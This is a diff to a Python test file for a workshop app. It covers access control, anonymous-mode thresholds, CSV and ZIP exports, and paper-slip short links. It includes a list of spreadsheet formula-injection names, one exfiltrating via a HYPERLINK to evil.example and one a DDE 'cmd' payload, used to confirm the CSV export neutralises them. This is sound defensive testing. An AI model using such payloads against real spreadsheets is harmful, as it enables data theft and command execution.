@@ -3,6 +3,7 @@ downloads read back, paper mode, background ZIP and the demo command."""
 
 import csv
 import io
+import re
 import time
 import zipfile
 
@@ -10,18 +11,20 @@ import pytest
 from pypdf import PdfReader
 from sqlalchemy import select
 
-from web.common.join_codes import ALPHABET, new_join_code, normalise_join_code
-from web.extensions import db
-from web.models import Response, Workshop
+from services.db import db
+from services.models import Response, Workshop
+from services.workshops import ALPHABET, new_join_code, normalise_join_code
 
-from .support import create_workshop, csrf_of, join_and_complete, login, make_app, make_coach, varied_answers
-
-
-@pytest.fixture
-def coach(app, client):
-    email, password = make_coach(app)
-    login(client, email, password)
-    return client
+from .support import (
+    create_workshop,
+    csrf_of,
+    join_and_complete,
+    login,
+    make_app,
+    make_coach,
+    varied_answers,
+)
+from .support.workshops import share_with
 
 
 def coach_routes(app):
@@ -39,7 +42,20 @@ def wait_for_job(coach, workshop_id: int, job_id: int) -> dict:
     return state
 
 
+# What only a workshop's owner may do: a co-facilitator gets 403 (they know the workshop).
+OWNER_ONLY = {"workshops.delete", "workshops.share", "workshops.unshare"}
+
+
+def coach_id_of(app, email: str) -> int:
+    from services.models import Coach
+
+    with app.app_context():
+        return db.session.scalar(select(Coach.id).where(Coach.email == email))
+
+
 def test_every_coach_route_is_checked_for_ownership(app, coach, instrument):
+    """Walked three times: as the owner (every page there), as a co-facilitator (through
+    the same gate, except the owner's own actions: 403) and as a stranger coach (404)."""
     workshop_id, code = create_workshop(coach, privacy="named")
     join_and_complete(app.test_client(), instrument, code, name="Ann", share=True)
     token = csrf_of(coach.get(f"/coach/workshops/{workshop_id}").text)
@@ -48,15 +64,34 @@ def test_every_coach_route_is_checked_for_ownership(app, coach, instrument):
     assert wait_for_job(coach, workshop_id, job_id)["status"] == "done"
     with app.app_context():
         response_id = db.session.scalar(select(Response.id).where(Response.workshop_id == workshop_id))
-    # Real ids of the owner's workshop, response and job: a route that forgot
+    make_coach(app, "co@example.com", "a co-facilitator's long password")
+    assert share_with(coach, workshop_id, "co@example.com").status_code == 302
+    # Real ids of the owner's workshop, response, job and co-facilitator: a route that forgot
     # owned_workshop() would answer the intruder with the owner's data, not 404.
-    ids = {"workshop_id": workshop_id, "response_id": response_id, "job_id": job_id}
+    ids = {"workshop_id": workshop_id, "response_id": response_id, "job_id": job_id,
+           "coach_id": coach_id_of(app, "co@example.com")}
     routes = coach_routes(app)
-    assert len(routes) >= 13
+    assert len(routes) >= 15
+    assert OWNER_ONLY <= {rule.endpoint for rule, _ in routes}
     for rule, methods in routes:
         url = rule.build(ids)[1]
         if "GET" in methods:
             assert coach.get(url).status_code != 404, f"the owner cannot reach {url}: the ids are not real"
+
+    co = app.test_client()
+    login(co, "co@example.com", "a co-facilitator's long password")
+    co_token = csrf_of(co.get("/coach/workshops/new").text)
+    for rule, methods in routes:
+        url = rule.build(ids)[1]
+        for method in methods:
+            reply = co.open(url, method=method, data={"csrf_token": co_token} if method == "POST" else None)
+            if rule.endpoint in OWNER_ONLY:
+                assert reply.status_code == 403, (method, url, reply.status_code)
+            else:
+                assert reply.status_code not in (403, 404) and reply.status_code < 500, (method, url, reply.status_code)
+    with app.app_context():
+        assert db.session.get(Workshop, workshop_id) is not None  # the co-facilitator's delete did nothing
+    assert "co@example.com" in coach.get(f"/coach/workshops/{workshop_id}").text  # nor their unshare
 
     intruder = app.test_client()
     make_coach(app, "other@example.com", "another long password")
@@ -97,14 +132,14 @@ def test_anonymous_mode_shows_nothing_below_the_minimum_and_never_one_person(app
     join_and_complete(people, instrument, code, complete=False)
     team = coach.get(f"/coach/workshops/{workshop_id}/team.json").get_json()
     assert team["summary"]["joined"] == 5 and team["summary"]["min_group"] == 5
-    assert team["summary"]["completed"] == {"low": 0, "high": 4} and team["summary"]["in_progress"] == {"low": 1, "high": 5}
+    assert team["summary"]["completed"] == {"low": 0, "high": 0} and team["summary"]["in_progress"] is None
     assert team["summary"]["withheld"] is True and team["summary"]["scales"] == [] and team["chart"] is None
     assert team["grid"] == []
     csv_rows = list(csv.reader(io.StringIO(coach.get(f"/coach/workshops/{workshop_id}/scores.csv").data.decode("utf-8-sig"))))
     assert len(csv_rows) == 1  # header only
     join_and_complete(people, instrument, code, offset=4)
     team = coach.get(f"/coach/workshops/{workshop_id}/team.json").get_json()
-    assert team["summary"]["withheld"] is False and team["summary"]["completed"] == {"low": 5, "high": 9}
+    assert team["summary"]["withheld"] is False and team["summary"]["completed"] == {"low": 5, "high": 5}
     weak = next(s for s in team["summary"]["scales"] if s["id"] == "weak_close")
     assert sum(weak["band_counts"].values()) == 5 and weak["median"] % 10 == 0
     assert team["grid"] == [] and "scores" not in str(team["chart"]).lower().replace("score (", "")
@@ -235,9 +270,35 @@ def test_csv_has_bom_versions_names_and_raw_answers(app, coach, instrument):
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
     assert {r["name"] for r in rows} == {"Åsa Öström", "'=HYPERLINK(1)"}
     first = next(r for r in rows if r["name"] == "Åsa Öström")
-    assert first["instrument_id"] == "tripwire" and first["instrument_version"] == "2"
+    assert first["instrument_id"] == "tripwire" and first["instrument_version"] == instrument.version
     assert {i.id: int(first[i.id]) for i in instrument.items} == varied_answers(instrument, 0)
     assert first["weak_close_band"] in ("low", "moderate", "high") and float(first["weak_close_score"]) >= 0
+
+
+HOSTILE_NAMES = ['Anna;=HYPERLINK("http://evil.example/?"&A1;"click")', "Bo; +cmd|' /C calc'!A0", ";@SUM(1+1)*cmd",
+                 "-2+3;-1", "Eva;\t=1+1", "Li\r\n=2+2;x"]
+
+
+@pytest.mark.parametrize("separator", [";", ","])
+def test_no_csv_cell_begins_a_formula_when_split_as_swedish_excel_does(app, coach, instrument, separator):
+    """Issue 25, F10: Swedish Excel opens a .csv split at ';' (its list separator) and the
+    commas stay inside the cells; a ';' in a name started a new cell that ran as a formula."""
+    workshop_id, code = create_workshop(coach, privacy="named", language="sv")
+    people = app.test_client()
+    for n, name in enumerate(HOSTILE_NAMES):
+        join_and_complete(people, instrument, code, name=name, share=True, offset=n)
+    text = coach.get(f"/coach/workshops/{workshop_id}/scores.csv").data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 1 + len(HOSTILE_NAMES)
+    names = [row[0] for row in rows[1:]]
+    assert all(name.replace("'", "").replace("\r\n", "\n") for name in names)
+    # Naive splitting (no quotes honoured) at the separator and at every line break.
+    cells = [cell for line in re.split(r"\r\n|\r|\n", text) for cell in line.split(separator)]
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    # Quote-aware parsing too (Excel honours quotes at a cell's start): every cell of every row.
+    parsed = [cell for line in csv.reader(io.StringIO(text), delimiter=separator) for cell in line]
+    assert [cell for cell in parsed if cell[:1] in ("=", "+", "-", "@")] == []
 
 
 def test_team_pdf_reads_back(app, coach, instrument):
@@ -278,9 +339,12 @@ def test_zip_of_shared_profiles_in_the_background(app, coach, instrument, proces
     state = wait_for_job(coach, workshop_id, int(reply.location.split("job=")[1].split("#")[0]))
     assert state["status"] == "done" and state["done"] == state["total"] == 2
     archive = zipfile.ZipFile(io.BytesIO(coach.get(state["download"]).data))
-    names = sorted(archive.namelist())
+    everything = sorted(archive.namelist())
+    # Each profile beside its coach's edition.
+    assert sorted(n for n in everything if n.startswith("coach-edition-")) == [n.replace("profile-", "coach-edition-") for n in everything if n.startswith("profile-")]
+    names = [n for n in everything if n.startswith("profile-")]
     assert len(names) == 2 and all(n.endswith(".pdf") for n in names)
-    assert any("asa" in n for n in names) and not any("cissi" in n for n in names)
+    assert any("asa" in n for n in names) and not any("cissi" in n for n in everything)
     for name in names:  # each file holds its own person's report
         text = "".join(page.extract_text() for page in PdfReader(archive.open(name)).pages)
         assert ("Name Åsa\n" in text) == ("-asa-" in name) and ("Name Bo\n" in text) == ("-bo-" in name)
@@ -309,6 +373,36 @@ def test_paper_mode(app, coach, instrument):
     assert [r["name"] for r in team["grid"]] == ["Pappers-Per"]
     # A blank is allowed within the scoring rules: the form is saved.
     assert coach.post(f"/coach/workshops/{workshop_id}/paper", data=partial).status_code == 200
+
+
+def test_a_paper_slip_carries_a_short_link_to_type_that_opens_only_that_profile(app, coach, instrument):
+    """Issue 28: the slip's link is short enough to type (four groups of five, 100 random
+    bits), read back in any case with spaces, never written to a log, and a wrong one is refused."""
+    from web.log_redaction import redact
+
+    workshop_id, _ = create_workshop(coach, privacy="named", language="sv")
+    page = coach.get(f"/coach/workshops/{workshop_id}/paper")
+    data = {"csrf_token": csrf_of(page.text), "name": "Pappers-Per", "language": "sv",
+            **{k: str(v) for k, v in varied_answers(instrument, 1).items()}}
+    done = coach.post(f"/coach/workshops/{workshop_id}/paper", data=data)
+    slip = done.text.split("data-paper-slip")[1]
+    short = re.search(r"<code>(https?://[^<]+)</code>", slip).group(1)
+    code = re.fullmatch(r"https?://[^/]+/p/([A-HJ-NP-Z2-9]{5}(?:-[A-HJ-NP-Z2-9]{5}){3})", short).group(1)
+    visitor = app.test_client()
+    typed = " ".join(code.lower().split("-"))  # as a person types it from paper
+    opened = visitor.get(f"/p/{typed}")
+    assert opened.status_code == 302 and opened.location.endswith("/response/" + code.replace("-", ""))
+    profile = visitor.get(opened.location, follow_redirects=True)
+    assert profile.status_code == 200 and "Pappers-Per" in profile.text
+    # One character off, or too short: refused, saying what a code looks like.
+    wrong = code[:-1] + ("A" if code[-1] != "A" else "B")
+    unknown = visitor.get(f"/p/{wrong}")
+    assert unknown.status_code == 404 and "Det finns inget formulär på den här länken" in unknown.text
+    short = visitor.get(f"/p/{code[:10]}")
+    assert short.status_code == 404 and "fyra grupper med fem" in short.text
+    # The code is a private link: no log line keeps it.
+    assert code not in redact(f'"GET /p/{code} HTTP/1.1" 302') and code.replace("-", "") not in redact(
+        f'"GET /response/{code.replace("-", "")}/profile HTTP/1.1" 200')
 
 
 def test_delete_workshop_deletes_its_responses(app, coach, instrument):
@@ -349,7 +443,7 @@ def test_demo_workshop_command(app, runner):
 
 
 def test_file_names_come_from_the_catalog_and_show_no_ids(app):
-    from web.filenames import file_name, numbered
+    from services.filenames import file_name, numbered
 
     with app.app_context():
         assert file_name("sv", "team", "Höstkickoff & <b>fest</b>", "2026-11-27", ext="pdf") == "grupp-hostkickoff-b-fest-b-2026-11-27.pdf"
